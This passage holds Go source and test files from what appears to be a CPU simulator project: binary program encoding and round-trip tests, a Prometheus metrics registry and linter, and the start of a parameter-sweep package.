		addr := d.uvarint()
		n := d.uvarint()
		if n > MaxDataBytes || total+int(n) > MaxDataBytes {
			d.fail("data exceeds limit %d bytes", MaxDataBytes)
			break
		}
		total += int(n)
		p.Segments = append(p.Segments, asm.Segment{Addr: addr, Data: d.bytes(n)})
	}

	nSyms := d.count(MaxSymbols, 3, "symbols")
	prev := ""
	for i := 0; i < nSyms && d.err == nil; i++ {
		n := d.uvarint()
		if n > MaxNameLen {
			d.fail("symbol name length %d exceeds limit %d", n, MaxNameLen)
			break
		}
		name := string(d.bytes(n))
		if d.err != nil {
			break
		}
		if !asm.ValidSymbol(name) {
			d.fail("invalid symbol name %q", name)
			break
		}
		if i > 0 && name <= prev {
			d.fail("symbol table not strictly sorted at %q", name)
			break
		}
		prev = name
		p.Symbols[name] = d.uvarint()
	}

	if d.err == nil && d.off != len(d.b) {
		d.fail("%d trailing bytes", len(d.b)-d.off)
	}
	if d.err != nil {
		return nil, d.err
	}
	return p, nil
}

// Assemble parses assembly text and encodes it: the text → binary half of
// the interchange layer.
func Assemble(name, src string) ([]byte, error) {
	p, err := asm.Parse(name, src)
	if err != nil {
		return nil, err
	}
	return Encode(p)
}

// Disassemble decodes a binary program and renders canonical assembly text:
// the binary → text half.  Assemble(Disassemble(bin)) == bin.
func Disassemble(bin []byte) (string, error) {
	p, err := Decode(bin)
	if err != nil {
		return "", err
	}
	return p.Disassemble(), nil
}
