package prog_test

import (
	"bytes"
	"reflect"
	"strings"
	"testing"

	"specrun/internal/asm"
	"specrun/internal/attack"
	"specrun/internal/core"
	"specrun/internal/isa"
	"specrun/internal/prog"
	"specrun/internal/proggen"
	"specrun/internal/workload"
)

// samePrograms fails unless a and b are identical interchange-wise.
func samePrograms(t *testing.T, a, b *asm.Program) {
	t.Helper()
	if a.Base != b.Base {
		t.Fatalf("base %#x != %#x", a.Base, b.Base)
	}
	if len(a.Insts) != len(b.Insts) {
		t.Fatalf("inst count %d != %d", len(a.Insts), len(b.Insts))
	}
	for i := range a.Insts {
		if a.Insts[i] != b.Insts[i] {
			t.Fatalf("inst %d: %v != %v", i, a.Insts[i], b.Insts[i])
		}
	}
	if len(a.Segments) != len(b.Segments) {
		t.Fatalf("segment count %d != %d", len(a.Segments), len(b.Segments))
	}
	for i := range a.Segments {
		if a.Segments[i].Addr != b.Segments[i].Addr ||
			!bytes.Equal(a.Segments[i].Data, b.Segments[i].Data) {
			t.Fatalf("segment %d differs", i)
		}
	}
	if len(a.Symbols) != len(b.Symbols) {
		t.Fatalf("symbol count %d != %d", len(a.Symbols), len(b.Symbols))
	}
	for name, v := range a.Symbols {
		if got, ok := b.Symbols[name]; !ok || got != v {
			t.Fatalf("symbol %q: %#x vs %#x (present=%v)", name, v, got, ok)
		}
	}
}

// roundTrip pins both directions for one program: asm → binary → asm is
// byte-identical text, and binary → Program → binary is byte-identical.
func roundTrip(t *testing.T, p *asm.Program) {
	t.Helper()
	bin, err := prog.Encode(p)
	if err != nil {
		t.Fatalf("encode: %v", err)
	}
	dec, err := prog.Decode(bin)
	if err != nil {
		t.Fatalf("decode: %v", err)
	}
	samePrograms(t, p, dec)
	bin2, err := prog.Encode(dec)
	if err != nil {
		t.Fatalf("re-encode: %v", err)
	}
	if !bytes.Equal(bin, bin2) {
		t.Fatal("binary -> Program -> binary not byte-identical")
	}

	text := p.Disassemble()
	p2, err := asm.Parse("rt", text)
	if err != nil {
		t.Fatalf("re-parse: %v\n%s", err, text)
	}
	samePrograms(t, p, p2)
	bin3, err := prog.Encode(p2)
	if err != nil {
		t.Fatalf("encode re-parsed: %v", err)
	}
	if !bytes.Equal(bin, bin3) {
		t.Fatal("asm -> binary -> asm -> binary not byte-identical")
	}
	if text2 := p2.Disassemble(); text2 != text {
		t.Fatal("disassembly not a fixed point")
	}
}

// Golden suite: every workload kernel survives both round trips.
func TestRoundTripKernels(t *testing.T) {
	for _, k := range workload.Kernels() {
		t.Run(k.Name, func(t *testing.T) { roundTrip(t, k.Build()) })
	}
}

// Golden suite: every attack PoC survives both round trips.
func TestRoundTripAttacks(t *testing.T) {
	for _, v := range []attack.Variant{
		attack.VariantPHT, attack.VariantBTB,
		attack.VariantRSBOverwrite, attack.VariantRSBFlush,
	} {
		t.Run(v.String(), func(t *testing.T) {
			params := attack.DefaultParams()
			params.Variant = v
			p, _ := attack.MustBuild(params)
			roundTrip(t, p)
		})
	}
}

// Property suite: 2000 proggen seeds survive both round trips with byte
// identity (the acceptance bar for the interchange layer).
func TestRoundTripProggenSeeds(t *testing.T) {
	n := 2000
	if testing.Short() {
		n = 200
	}
	opt := proggen.DefaultOptions()
	for seed := 0; seed < n; seed++ {
		p := proggen.Generate(int64(seed), opt)
		bin, err := prog.Encode(p)
		if err != nil {
			t.Fatalf("seed %d: encode: %v", seed, err)
		}
		dec, err := prog.Decode(bin)
		if err != nil {
			t.Fatalf("seed %d: decode: %v", seed, err)
		}
		bin2, err := prog.Encode(dec)
		if err != nil {
			t.Fatalf("seed %d: re-encode: %v", seed, err)
		}
		if !bytes.Equal(bin, bin2) {
			t.Fatalf("seed %d: binary round trip not byte-identical", seed)
		}
		p2, err := asm.Parse("rt", p.Disassemble())
		if err != nil {
			t.Fatalf("seed %d: re-parse: %v", seed, err)
		}
		bin3, err := prog.Encode(p2)
		if err != nil {
			t.Fatalf("seed %d: encode re-parsed: %v", seed, err)
		}
		if !bytes.Equal(bin, bin3) {
			t.Fatalf("seed %d: asm round trip not byte-identical", seed)
		}
	}
}

func TestRoundTripAsmSample(t *testing.T) {
	const src = `
.org 0x2000
.data 0x200000
.equ magic 0x42
arr: .u64 1, 2, 3
msg: .ascii "hi"
start:
    movi r1, arr
    movi r2, magic
    ldx r3, [r1 + r2*8 + -16]
    fmovi f0, 0.1
    fmovi f1, nan:0x7ff800000000beef
    st [r1 + 8], r3
    beq r2, r0, start
    halt
`
	roundTrip(t, asm.MustParse("t", src))
}

func TestHashStability(t *testing.T) {
	p := workload.Kernels()[0].Build()
	a, _ := prog.Encode(p)
	b, _ := prog.Encode(workload.Kernels()[0].Build())
	if prog.Hash(a) != prog.Hash(b) {
		t.Fatal("identical programs hash differently")
	}
	if len(prog.Hash(a)) != 64 {
		t.Fatalf("hash %q is not hex sha256", prog.Hash(a))
	}
}

func TestDecodeRejects(t *testing.T) {
	good, err := prog.Encode(asm.MustParse("t", "nop\nhalt"))
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name string
		bin  []byte
		want string
	}{
		{"empty", nil, "bad magic"},
		{"bad magic", []byte("NOPE\x01\x00"), "bad magic"},
		{"bad version", append([]byte("SPRG\x63\x00"), good[6:]...), "unsupported version"},
		{"trailing bytes", append(append([]byte{}, good...), 0), "trailing"},
		{"truncated", good[:len(good)-1], "varint"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := prog.Decode(tc.bin)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want substring %q", err, tc.want)
			}
		})
	}
}

// Non-minimal varints are rejected: the format admits exactly one byte
// string per program, which is what makes the encoding a content address.
func TestDecodeRejectsNonMinimalVarint(t *testing.T) {
	good, err := prog.Encode(asm.MustParse("t", "nop\nhalt"))
	if err != nil {
		t.Fatal(err)
	}
	// The base follows magic+version as a one-byte uvarint (0x1000 is two
	// bytes: 0x80 0x20).  Re-encode it with a redundant continuation.
	i := len(prog.Magic) + 2
	bad := append([]byte{}, good[:i]...)
	bad = append(bad, good[i]|0x80, good[i+1]|0x80, 0x00)
	bad = append(bad, good[i+2:]...)
	if _, err := prog.Decode(bad); err == nil || !strings.Contains(err.Error(), "non-minimal") {
		t.Fatalf("err = %v, want non-minimal varint rejection", err)
	}
}

// Decode enforces canonical instructions: unused operand fields must be
// zero, so two distinct byte strings cannot decode to the same program.
func TestEncodeRejectsNonCanonicalInst(t *testing.T) {
	p := &asm.Program{
		Base:    0x1000,
		Insts:   []isa.Inst{{Op: isa.NOP, Imm: 7}, {Op: isa.HALT}},
		Symbols: map[string]uint64{},
	}
	if _, err := prog.Encode(p); err == nil || !strings.Contains(err.Error(), "non-canonical") {
		t.Fatalf("err = %v, want non-canonical rejection", err)
	}
}

func TestAssembleDisassemble(t *testing.T) {
	bin, err := prog.Assemble("t", "start:\n  jmp start\n  halt")
	if err != nil {
		t.Fatal(err)
	}
	text, err := prog.Disassemble(bin)
	if err != nil {
		t.Fatal(err)
	}
	bin2, err := prog.Assemble("rt", text)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(bin, bin2) {
		t.Fatal("Assemble(Disassemble(bin)) != bin")
	}
	if !strings.Contains(text, "jmp start") {
		t.Fatalf("disassembly lost the label:\n%s", text)
	}
}

// The interchange acceptance property end to end: a kernel that has been
// disassembled and reassembled simulates to the exact same full Stats as
// the original build (not just the same instruction list).
func TestReassembledKernelStatsIdentical(t *testing.T) {
	if testing.Short() {
		t.Skip("full kernel simulation")
	}
	k := workload.Kernels()[0]
	orig := k.Build()
	back, err := asm.Parse(k.Name, orig.Disassemble())
	if err != nil {
		t.Fatal(err)
	}
	samePrograms(t, orig, back)
	cfg := core.DefaultConfig()
	want, err := core.RunProgramStats(cfg, orig)
	if err != nil {
		t.Fatal(err)
	}
	got, err := core.RunProgramStats(cfg, back)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(want, got) {
		t.Fatalf("stats diverge after reassembly:\n%+v\n%+v", want, got)
	}
}
