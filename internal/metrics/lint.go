package metrics

import (
	"bufio"
	"fmt"
	"io"
	"regexp"
	"strconv"
	"strings"
)

// Lint validates text in Prometheus exposition format 0.0.4: every sample
// belongs to a family announced by a preceding # TYPE line, metric and
// label names are well-formed, sample values parse, and histogram families
// carry their _bucket/_sum/_count series with a +Inf bucket.  It returns
// the first violation found.  The server tests and the /metrics smoke use
// it so the endpoint can't drift into output real scrapers reject.
func Lint(r io.Reader) error {
	var (
		nameRe   = regexp.MustCompile(`^[a-zA-Z_:][a-zA-Z0-9_:]*$`)
		sampleRe = regexp.MustCompile(`^([a-zA-Z_:][a-zA-Z0-9_:]*)(?:\{(.*)\})?\s+(\S+)$`)
		labelRe  = regexp.MustCompile(`^[a-zA-Z_][a-zA-Z0-9_]*="(?:[^"\\]|\\.)*"$`)
	)
	types := map[string]string{}   // family -> type
	sampled := map[string]bool{}   // family -> saw any sample
	infBucket := map[string]bool{} // histogram family -> saw +Inf bucket
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	lineno := 0
	for sc.Scan() {
		lineno++
		line := sc.Text()
		if line == "" {
			continue
		}
		if strings.HasPrefix(line, "# HELP ") {
			continue
		}
		if strings.HasPrefix(line, "# TYPE ") {
			parts := strings.Fields(line)
			if len(parts) != 4 {
				return fmt.Errorf("line %d: malformed TYPE line: %q", lineno, line)
			}
			name, typ := parts[2], parts[3]
			if !nameRe.MatchString(name) {
				return fmt.Errorf("line %d: bad metric name %q", lineno, name)
			}
			switch typ {
			case "counter", "gauge", "histogram", "summary", "untyped":
			default:
				return fmt.Errorf("line %d: unknown metric type %q", lineno, typ)
			}
			if _, dup := types[name]; dup {
				return fmt.Errorf("line %d: duplicate TYPE for %q", lineno, name)
			}
			types[name] = typ
			continue
		}
		if strings.HasPrefix(line, "#") {
			continue // other comments are legal
		}
		m := sampleRe.FindStringSubmatch(line)
		if m == nil {
			return fmt.Errorf("line %d: malformed sample: %q", lineno, line)
		}
		name, labels, value := m[1], m[2], m[3]
		fam := name
		if suffix := histogramSuffix(name); suffix != "" {
			base := strings.TrimSuffix(name, suffix)
			if types[base] == "histogram" {
				fam = base
				if suffix == "_bucket" && strings.Contains(labels, `le="+Inf"`) {
					infBucket[base] = true
				}
			}
		}
		typ, ok := types[fam]
		if !ok {
			return fmt.Errorf("line %d: sample %q has no preceding TYPE", lineno, name)
		}
		if typ == "histogram" && fam == name {
			return fmt.Errorf("line %d: bare sample %q for histogram family", lineno, name)
		}
		if labels != "" {
			for _, pair := range splitLabels(labels) {
				if !labelRe.MatchString(pair) {
					return fmt.Errorf("line %d: malformed label %q", lineno, pair)
				}
			}
		}
		if value != "+Inf" && value != "-Inf" && value != "NaN" {
			if _, err := strconv.ParseFloat(value, 64); err != nil {
				return fmt.Errorf("line %d: bad sample value %q", lineno, value)
			}
		}
		sampled[fam] = true
	}
	if err := sc.Err(); err != nil {
		return err
	}
	for fam, typ := range types {
		if typ == "histogram" && sampled[fam] && !infBucket[fam] {
			return fmt.Errorf("histogram %q has no +Inf bucket", fam)
		}
	}
	if len(sampled) == 0 {
		return fmt.Errorf("no samples in exposition")
	}
	return nil
}

func histogramSuffix(name string) string {
	for _, s := range []string{"_bucket", "_sum", "_count"} {
		if strings.HasSuffix(name, s) {
			return s
		}
	}
	return ""
}

// splitLabels splits `a="x",b="y,z"` on commas outside quoted values.
func splitLabels(s string) []string {
	var out []string
	depth := false // inside quotes
	start := 0
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '\\':
			if depth {
				i++ // skip escaped char
			}
		case '"':
			depth = !depth
		case ',':
			if !depth {
				out = append(out, s[start:i])
				start = i + 1
			}
		}
	}
	out = append(out, s[start:])
	return out
}
