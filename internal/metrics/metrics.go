// Package metrics is a zero-dependency metrics registry with Prometheus
// text exposition (version 0.0.4).  It implements the three instrument
// kinds the service needs — monotonic counters, gauges, and fixed-bucket
// histograms — plus labelled (vec) variants and scrape-time callback
// instruments for values other subsystems already track.
//
// Instruments are safe for concurrent use: counters, gauges and histogram
// buckets are atomics, so updates on the request path never take the
// registry lock.  The registry lock only guards registration and the
// label-set maps of vec instruments.
package metrics

import (
	"fmt"
	"io"
	"math"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
)

// Counter is a monotonically increasing value.
type Counter struct {
	v atomic.Uint64
}

// Inc adds 1.
func (c *Counter) Inc() { c.v.Add(1) }

// Add adds n.
func (c *Counter) Add(n uint64) { c.v.Add(n) }

// Value returns the current count.
func (c *Counter) Value() uint64 { return c.v.Load() }

// Gauge is a value that can go up and down.
type Gauge struct {
	v atomic.Int64
}

// Set replaces the value.
func (g *Gauge) Set(n int64) { g.v.Store(n) }

// Add adds n (negative to subtract).
func (g *Gauge) Add(n int64) { g.v.Add(n) }

// Value returns the current value.
func (g *Gauge) Value() int64 { return g.v.Load() }

// Histogram counts observations into fixed cumulative buckets.
type Histogram struct {
	bounds []float64 // sorted upper bounds, exclusive of +Inf
	counts []atomic.Uint64
	inf    atomic.Uint64
	count  atomic.Uint64
	sum    atomic.Uint64 // float64 bits, CAS-updated
}

func newHistogram(bounds []float64) *Histogram {
	bs := append([]float64(nil), bounds...)
	sort.Float64s(bs)
	return &Histogram{bounds: bs, counts: make([]atomic.Uint64, len(bs))}
}

// Observe records one observation.
func (h *Histogram) Observe(v float64) {
	placed := false
	for i, b := range h.bounds {
		if v <= b {
			h.counts[i].Add(1)
			placed = true
			break
		}
	}
	if !placed {
		h.inf.Add(1)
	}
	h.count.Add(1)
	for {
		old := h.sum.Load()
		nw := math.Float64bits(math.Float64frombits(old) + v)
		if h.sum.CompareAndSwap(old, nw) {
			return
		}
	}
}

// Count returns the total number of observations.
func (h *Histogram) Count() uint64 { return h.count.Load() }

// Sum returns the sum of all observed values.
func (h *Histogram) Sum() float64 { return math.Float64frombits(h.sum.Load()) }

// DefBuckets is a latency-oriented default bucket layout (seconds).
var DefBuckets = []float64{
	0.0005, 0.001, 0.0025, 0.005, 0.01, 0.025, 0.05,
	0.1, 0.25, 0.5, 1, 2.5, 5, 10,
}

// metric is one registered exposition family.
type metric struct {
	name, help, typ string
	// collect appends exposition lines (without HELP/TYPE) for the family.
	collect func(b *strings.Builder)
}

// Registry holds registered instruments and renders them.
type Registry struct {
	mu   sync.Mutex
	fams map[string]*metric
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{fams: make(map[string]*metric)}
}

func (r *Registry) register(m *metric) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if _, dup := r.fams[m.name]; dup {
		panic("metrics: duplicate registration of " + m.name)
	}
	r.fams[m.name] = m
}

// NewCounter registers and returns a counter.
func (r *Registry) NewCounter(name, help string) *Counter {
	c := &Counter{}
	r.register(&metric{name: name, help: help, typ: "counter", collect: func(b *strings.Builder) {
		fmt.Fprintf(b, "%s %d\n", name, c.Value())
	}})
	return c
}

// CounterFunc registers a counter whose value is read from fn at scrape
// time.  fn must be monotonic and safe for concurrent use.
func (r *Registry) CounterFunc(name, help string, fn func() uint64) {
	r.register(&metric{name: name, help: help, typ: "counter", collect: func(b *strings.Builder) {
		fmt.Fprintf(b, "%s %d\n", name, fn())
	}})
}

// NewGauge registers and returns a gauge.
func (r *Registry) NewGauge(name, help string) *Gauge {
	g := &Gauge{}
	r.register(&metric{name: name, help: help, typ: "gauge", collect: func(b *strings.Builder) {
		fmt.Fprintf(b, "%s %d\n", name, g.Value())
	}})
	return g
}

// GaugeFunc registers a gauge whose value is read from fn at scrape time.
func (r *Registry) GaugeFunc(name, help string, fn func() float64) {
	r.register(&metric{name: name, help: help, typ: "gauge", collect: func(b *strings.Builder) {
		fmt.Fprintf(b, "%s %s\n", name, formatFloat(fn()))
	}})
}

// NewHistogram registers and returns a histogram with the given upper
// bounds (a +Inf bucket is implicit).
func (r *Registry) NewHistogram(name, help string, buckets []float64) *Histogram {
	h := newHistogram(buckets)
	r.register(&metric{name: name, help: help, typ: "histogram", collect: func(b *strings.Builder) {
		writeHistogram(b, name, "", h)
	}})
	return h
}

// CounterVec is a family of counters partitioned by label values.
type CounterVec struct {
	mu     sync.Mutex
	name   string
	labels []string
	kids   map[string]*Counter
}

// With returns (creating if needed) the counter for the given label values,
// which must match the label names in number and order.
func (v *CounterVec) With(values ...string) *Counter {
	if len(values) != len(v.labels) {
		panic("metrics: label cardinality mismatch for " + v.name)
	}
	key := labelPairs(v.labels, values)
	v.mu.Lock()
	defer v.mu.Unlock()
	c := v.kids[key]
	if c == nil {
		c = &Counter{}
		v.kids[key] = c
	}
	return c
}

// NewCounterVec registers and returns a labelled counter family.
func (r *Registry) NewCounterVec(name, help string, labels ...string) *CounterVec {
	v := &CounterVec{name: name, labels: labels, kids: make(map[string]*Counter)}
	r.register(&metric{name: name, help: help, typ: "counter", collect: func(b *strings.Builder) {
		for _, key := range sortedKeys(v) {
			fmt.Fprintf(b, "%s{%s} %d\n", name, key, v.kids[key].Value())
		}
	}})
	return v
}

// HistogramVec is a family of histograms partitioned by label values.
type HistogramVec struct {
	mu      sync.Mutex
	name    string
	labels  []string
	buckets []float64
	kids    map[string]*Histogram
}

// With returns (creating if needed) the histogram for the given label
// values.
func (v *HistogramVec) With(values ...string) *Histogram {
	if len(values) != len(v.labels) {
		panic("metrics: label cardinality mismatch for " + v.name)
	}
	key := labelPairs(v.labels, values)
	v.mu.Lock()
	defer v.mu.Unlock()
	h := v.kids[key]
	if h == nil {
		h = newHistogram(v.buckets)
		v.kids[key] = h
	}
	return h
}

// NewHistogramVec registers and returns a labelled histogram family.
func (r *Registry) NewHistogramVec(name, help string, buckets []float64, labels ...string) *HistogramVec {
	v := &HistogramVec{name: name, labels: labels, buckets: buckets, kids: make(map[string]*Histogram)}
	r.register(&metric{name: name, help: help, typ: "histogram", collect: func(b *strings.Builder) {
		v.mu.Lock()
		keys := make([]string, 0, len(v.kids))
		for k := range v.kids {
			keys = append(keys, k)
		}
		v.mu.Unlock()
		sort.Strings(keys)
		for _, key := range keys {
			writeHistogram(b, name, key, v.kids[key])
		}
	}})
	return v
}

func sortedKeys(v *CounterVec) []string {
	v.mu.Lock()
	keys := make([]string, 0, len(v.kids))
	for k := range v.kids {
		keys = append(keys, k)
	}
	v.mu.Unlock()
	sort.Strings(keys)
	return keys
}

// WritePrometheus renders every registered family in text exposition format
// 0.0.4, sorted by family name.
func (r *Registry) WritePrometheus(w io.Writer) error {
	r.mu.Lock()
	names := make([]string, 0, len(r.fams))
	for n := range r.fams {
		names = append(names, n)
	}
	fams := make([]*metric, 0, len(names))
	sort.Strings(names)
	for _, n := range names {
		fams = append(fams, r.fams[n])
	}
	r.mu.Unlock()

	var b strings.Builder
	for _, m := range fams {
		if m.help != "" {
			fmt.Fprintf(&b, "# HELP %s %s\n", m.name, escapeHelp(m.help))
		}
		fmt.Fprintf(&b, "# TYPE %s %s\n", m.name, m.typ)
		m.collect(&b)
	}
	_, err := io.WriteString(w, b.String())
	return err
}

// writeHistogram emits the cumulative bucket, sum and count series for one
// histogram; labels is a pre-rendered `k="v",...` string or "".
func writeHistogram(b *strings.Builder, name, labels string, h *Histogram) {
	sep := ""
	if labels != "" {
		sep = ","
	}
	cum := uint64(0)
	for i, bound := range h.bounds {
		cum += h.counts[i].Load()
		fmt.Fprintf(b, "%s_bucket{%s%sle=%q} %d\n", name, labels, sep, formatFloat(bound), cum)
	}
	fmt.Fprintf(b, "%s_bucket{%s%sle=\"+Inf\"} %d\n", name, labels, sep, h.Count())
	if labels == "" {
		fmt.Fprintf(b, "%s_sum %s\n", name, formatFloat(h.Sum()))
		fmt.Fprintf(b, "%s_count %d\n", name, h.Count())
	} else {
		fmt.Fprintf(b, "%s_sum{%s} %s\n", name, labels, formatFloat(h.Sum()))
		fmt.Fprintf(b, "%s_count{%s} %d\n", name, labels, h.Count())
	}
}

func formatFloat(v float64) string {
	if math.IsInf(v, 1) {
		return "+Inf"
	}
	return strconv.FormatFloat(v, 'g', -1, 64)
}

func labelPairs(names, values []string) string {
	var b strings.Builder
	for i, n := range names {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(n)
		b.WriteString(`="`)
		b.WriteString(escapeLabel(values[i]))
		b.WriteByte('"')
	}
	return b.String()
}

func escapeLabel(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`)
	return r.Replace(s)
}

func escapeHelp(s string) string {
	r := strings.NewReplacer(`\`, `\\`, "\n", `\n`)
	return r.Replace(s)
}
