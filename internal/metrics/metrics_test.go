package metrics

import (
	"strings"
	"sync"
	"testing"
)

func TestCounterGauge(t *testing.T) {
	r := NewRegistry()
	c := r.NewCounter("reqs_total", "requests")
	g := r.NewGauge("inflight", "in flight")
	c.Inc()
	c.Add(4)
	g.Set(7)
	g.Add(-3)
	if c.Value() != 5 {
		t.Fatalf("counter = %d", c.Value())
	}
	if g.Value() != 4 {
		t.Fatalf("gauge = %d", g.Value())
	}
	var b strings.Builder
	if err := r.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{
		"# HELP reqs_total requests\n# TYPE reqs_total counter\nreqs_total 5\n",
		"# TYPE inflight gauge\ninflight 4\n",
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("missing %q in:\n%s", want, out)
		}
	}
}

func TestHistogramCumulativeBuckets(t *testing.T) {
	r := NewRegistry()
	h := r.NewHistogram("lat_seconds", "latency", []float64{0.1, 1, 10})
	for _, v := range []float64{0.05, 0.5, 0.5, 5, 50} {
		h.Observe(v)
	}
	if h.Count() != 5 {
		t.Fatalf("count = %d", h.Count())
	}
	if h.Sum() != 56.05 {
		t.Fatalf("sum = %v", h.Sum())
	}
	var b strings.Builder
	if err := r.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{
		`lat_seconds_bucket{le="0.1"} 1`,
		`lat_seconds_bucket{le="1"} 3`,
		`lat_seconds_bucket{le="10"} 4`,
		`lat_seconds_bucket{le="+Inf"} 5`,
		`lat_seconds_sum 56.05`,
		`lat_seconds_count 5`,
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("missing %q in:\n%s", want, out)
		}
	}
}

func TestVecLabels(t *testing.T) {
	r := NewRegistry()
	cv := r.NewCounterVec("http_requests_total", "requests", "route", "code")
	cv.With("/v1/run", "200").Add(3)
	cv.With("/v1/run", "400").Inc()
	cv.With(`/weird"path`, "200").Inc()
	hv := r.NewHistogramVec("dur_seconds", "duration", []float64{1}, "route")
	hv.With("/v1/run").Observe(0.5)
	var b strings.Builder
	if err := r.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{
		`http_requests_total{route="/v1/run",code="200"} 3`,
		`http_requests_total{route="/v1/run",code="400"} 1`,
		`http_requests_total{route="/weird\"path",code="200"} 1`,
		`dur_seconds_bucket{route="/v1/run",le="1"} 1`,
		`dur_seconds_count{route="/v1/run"} 1`,
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("missing %q in:\n%s", want, out)
		}
	}
}

func TestFuncInstruments(t *testing.T) {
	r := NewRegistry()
	n := uint64(41)
	r.CounterFunc("sim_cycles_total", "cycles", func() uint64 { n++; return n })
	r.GaugeFunc("goroutines", "count", func() float64 { return 12 })
	var b strings.Builder
	if err := r.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.Contains(out, "sim_cycles_total 42\n") || !strings.Contains(out, "goroutines 12\n") {
		t.Fatalf("func instruments not rendered:\n%s", out)
	}
}

func TestDuplicateRegistrationPanics(t *testing.T) {
	r := NewRegistry()
	r.NewCounter("x_total", "")
	defer func() {
		if recover() == nil {
			t.Fatal("duplicate registration did not panic")
		}
	}()
	r.NewGauge("x_total", "")
}

func TestConcurrentUpdates(t *testing.T) {
	r := NewRegistry()
	c := r.NewCounter("c_total", "")
	h := r.NewHistogram("h_seconds", "", DefBuckets)
	cv := r.NewCounterVec("v_total", "", "k")
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 1000; j++ {
				c.Inc()
				h.Observe(0.01)
				cv.With("a").Inc()
			}
		}()
	}
	wg.Wait()
	if c.Value() != 8000 || h.Count() != 8000 || cv.With("a").Value() != 8000 {
		t.Fatalf("lost updates: c=%d h=%d v=%d", c.Value(), h.Count(), cv.With("a").Value())
	}
	if got, want := h.Sum(), 80.0; got < want-0.001 || got > want+0.001 {
		t.Fatalf("histogram sum = %v, want ~%v", got, want)
	}
}

// The registry's own output must satisfy its own linter — the same check
// the server tests and CI smoke run against /metrics.
func TestOutputPassesLint(t *testing.T) {
	r := NewRegistry()
	r.NewCounter("a_total", "with \\ backslash\nand newline").Inc()
	r.NewGauge("b", "").Set(-3)
	r.NewHistogram("c_seconds", "h", DefBuckets).Observe(0.2)
	cv := r.NewCounterVec("d_total", "v", "k")
	cv.With(`x"y\z`).Inc()
	cv.With("plain").Add(2)
	r.NewHistogramVec("e_seconds", "hv", []float64{0.5, 5}, "route").With("/a").Observe(1)
	var b strings.Builder
	if err := r.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	if err := Lint(strings.NewReader(b.String())); err != nil {
		t.Fatalf("lint: %v\n%s", err, b.String())
	}
}

func TestLintRejectsGarbage(t *testing.T) {
	cases := map[string]string{
		"no type":      "foo 1\n",
		"bad value":    "# TYPE foo counter\nfoo xyz\n",
		"bare histo":   "# TYPE h histogram\nh 3\n",
		"no inf":       "# TYPE h histogram\nh_bucket{le=\"1\"} 1\nh_sum 1\nh_count 1\n",
		"empty":        "",
		"bad label":    "# TYPE foo counter\nfoo{1bad=\"x\"} 1\n",
		"dup type":     "# TYPE foo counter\n# TYPE foo counter\nfoo 1\n",
		"mangled type": "# TYPE foo\nfoo 1\n",
	}
	for name, in := range cases {
		if err := Lint(strings.NewReader(in)); err == nil {
			t.Fatalf("%s: lint accepted %q", name, in)
		}
	}
}
