package sweep

import "strings"

// Axis is one named parameter dimension of a grid.
type Axis struct {
	Name   string
	Values []string
}

// Point is one cell of an expanded grid: an axis-name → value assignment.
type Point map[string]string

// FormatPoint renders a point following the axis order of the grid that
// produced it (labels, logs, failure reports).
func FormatPoint(axes []Axis, p Point) string {
	parts := make([]string, 0, len(axes))
	for _, a := range axes {
		parts = append(parts, a.Name+"="+p[a.Name])
	}
	return strings.Join(parts, " ")
}

// Expand enumerates the full cross product of the axes in row-major order
// (the last axis varies fastest), matching nested for-loops over the axes
// in declaration order.  An empty axis list yields a single empty point;
// an axis with no values yields no points.
func Expand(axes []Axis) []Point {
	points := []Point{{}}
	for _, a := range axes {
		next := make([]Point, 0, len(points)*len(a.Values))
		for _, p := range points {
			for _, v := range a.Values {
				q := make(Point, len(p)+1)
				for k, pv := range p {
					q[k] = pv
				}
				q[a.Name] = v
				next = append(next, q)
			}
		}
		points = next
	}
	return points
}
