package sweep

import (
	"context"
	"errors"
	"fmt"
	"runtime"
	"runtime/debug"
	"sort"
	"sync"

	"specrun/internal/faultinject"
)

// Options tunes one call to [Run].
type Options struct {
	// Workers is the worker-pool size; <= 0 means GOMAXPROCS.
	Workers int
	// OnProgress, if non-nil, is called after each job completes with the
	// number of finished jobs and the total.  Calls are serialized.
	OnProgress func(done, total int)
	// FailFast stops dispatching new jobs after the first job error;
	// already-running jobs finish.  [First] sets this.
	FailFast bool
	// Gate, if non-nil, bounds how many jobs execute concurrently across
	// every Run call sharing it (a server-wide worker budget).  When unset,
	// the gate installed on the context by [WithGate] is used, so the budget
	// reaches drivers that only thread a context.
	Gate *Gate
	// Retry, if non-nil, is consulted after each failed job attempt with the
	// attempt number (1 = the first run) and its error; returning true
	// re-runs the job immediately on the same worker (the gate token is held
	// across retries).  Every simulation is deterministic and idempotent, so
	// retrying transient failures — worker panics, injected faults — is
	// always safe; only the final attempt's error reaches the JobError.
	// Retries stop as soon as ctx is cancelled.
	Retry func(attempt int, err error) bool
}

// PanicError is a worker panic converted into a job error: the recovered
// value plus the goroutine stack at the panic site.  A panicking job must
// never kill a long-running server whose inputs arrive over the network;
// it must also never be silent — the stack makes the report actionable.
type PanicError struct {
	Value any
	Stack []byte
}

func (e *PanicError) Error() string {
